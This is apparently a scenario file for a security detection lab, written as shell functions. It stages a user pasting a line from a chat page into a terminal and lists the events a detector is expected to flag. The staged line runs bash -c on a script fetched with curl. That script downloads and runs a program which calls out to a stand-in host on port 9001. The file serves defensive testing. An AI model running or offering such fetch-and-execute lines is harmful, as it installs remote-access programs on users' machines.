# The short form: no pipe between the fetch and the shell.
title="bash -c with a fetched text, pasted shortly after a visit to a chat service"
what="dev has an outside chat page open. Half a minute later a short line from it is pasted into a terminal: bash -c with a curl in a command substitution. The shell gets the script as an argument; it writes a program into ~/.local/bin and starts it, which connects to 203.0.113.66."
host=ws3.example.org user=dev daemons="cron" audit_format=RAW

setup() {
  mkdir -p "$base/out/www/i"; echo '<p>paste this</p>' > "$base/out/www/room.html"
  printf 'mkdir -p ~/.local/bin; curl -fsSL -o ~/.local/bin/agentx http://files.example.net/i/a; chmod +x ~/.local/bin/agentx; ~/.local/bin/agentx 203.0.113.66 9001\n' > "$base/out/www/i/x"
  cc -O1 -o "$base/out/www/i/a" "$lab/lib/stand-ins/beacon.c"
}
act() {
  display_up
  small_talk 1
  firefox_visit dev http://chat.example.com/room.html
  sleep 6
  console_as dev <<'L'
bash -c "$(curl -fsSL http://files.example.net/i/x)"
%sleep 2
ls
L
  small_talk 1
}
truth() {
  net_step chat 'firefox-esr 203.0.113.82:80' 'a chat page is open'
  exec_step fetch 'curl -fsSL http://files' 'a pasted line fetches a script'
  exec_step shell 'bash -c mkdir' 'and a shell gets it as its argument'
  exec_step execute 'agentx 203.0.113.66 9001' 'the script starts a program it fetched'
  net_step beacon 'agentx 203.0.113.66:9001' 'which calls out'
}
